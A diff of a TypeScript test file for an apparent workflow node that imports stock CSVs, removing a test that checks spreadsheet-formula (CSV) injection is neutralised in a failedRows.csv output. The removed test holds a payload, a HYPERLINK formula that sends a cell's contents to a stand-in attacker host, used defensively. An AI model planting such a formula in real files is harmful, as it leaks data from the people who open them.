@@ -24,39 +24,6 @@ const STOCK_CSV: INodeParameters = {
 };
 const HOUR = 60 * 60_000;
 
-const sent = (f: Fixture): RequestLogEntry[] =>
-	f.emulator.requests().filter((entry) => entry.operation === 'UpdateStock');
-const rowsSent = (f: Fixture) =>
-	sent(f).flatMap((entry) => (entry.body as { items: IDataObject[] }).items);
-
-describe('review44: Read Rows From a CSV File', () => {
-	let f: Fixture;
-	beforeEach(async () => {
-		f = await startFixture({ ratePlan: null });
-	});
-	afterEach(async () => await f.close());
-
-	it("a hostile service's status_code never reaches failedRows.csv as a spreadsheet formula", async () => {
-		const code = '=HYPERLINK("https://evil.example/?"&B2,"Fix")';
-		const items = [
-			{ warehouse_code: DXB, partner_sku: 'SKU-1', status: { status_code: code, message: 'no' } },
-		];
-		f.emulator.injectFaults({ count: 1, operation: 'UpdateStock', answer: { set: { items } } });
-		const text = `warehouse_code,partner_sku,qty\n${DXB},SKU-1,5\n`;
-		const result = await f.env.runWorkflow(
-			workflowWithFiles([{ text }], STOCK_CSV, { continueOnFail: true }),
-		);
-		const [out] = result.outputs(NODE);
-		const file = Buffer.from(out.binary!.failedRows.data, 'base64').toString('utf8');
-		const cells = file
-			.split('\n')[1]
-			.match(/("([^"]|"")*"|[^,]*)/g)!
-			.filter((cell) => cell !== '');
-		// Each cell as a sheet reads it: none starts with = + - @ (OWASP CSV injection).
-		for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
-	});
-});
-
 describe('review44: the webhook trigger possibleDuplicate mark', () => {
 	let f: Fixture;
 	const activations = new Activations();
